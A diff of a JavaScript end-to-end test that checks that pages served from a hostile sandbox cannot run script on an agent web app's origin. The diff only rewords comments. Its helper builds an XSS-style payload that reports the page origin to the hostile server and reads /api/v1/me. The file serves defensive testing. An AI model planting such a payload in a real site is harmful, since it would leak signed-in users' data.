@@ -1,4 +1,4 @@
-// A signed-in browser opens what a hostile sandbox answers: no script of it runs on the page's origin.
+// A signed-in browser opens the answers of a hostile sandbox: none of its scripts runs on the page's origin.
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
 import { Hostile, answerOf } from '../e2e/support/hostile.mjs';
@@ -22,7 +22,7 @@ after(async () => {
   await hostile?.close();
 });
 
-/** What ran says so to the hostile server, with the origin that it has. */
+/** A script that runs reports its origin to the hostile server. */
 const scriptOf = (id) => `fetch("${hostile.url}/ran?${id}&" + self.origin, { mode: "no-cors" }); fetch("/api/v1/me").then(() => fetch("${hostile.url}/read?${id}", { mode: "no-cors" }))`;
 
 function answers(id) {
@@ -44,14 +44,14 @@ function answers(id) {
   };
 }
 
-test('no script of a sandbox runs on the page\'s origin', async () => {
+test('no script from a sandbox runs on the page\'s origin', async () => {
   let id = 0;
   for (const route of [...hostile.routes.filter((one) => /^\/api\/(file\/download\?|bash\/bash_events\/search)/.test(one)), `${hostile.conversation}/workspace/x.html`]) {
     for (const what of Object.keys(answers(0))) {
       id += 1;
       hostile.answer = answers(id)[what];
       const page = await context.newPage();
-      // A download is no navigation.
+      // A download is not a navigation.
       const failed = await page.goto(`${APP}/agent${route}`, { timeout: STEP_DEADLINE_MS }).then(() => undefined, (error) => error);
       if (failed) assert.match(failed.message, /Download is starting|net::ERR_ABORTED|ERR_INVALID/, `${route}, ${what}`);
       await page.waitForLoadState('load');
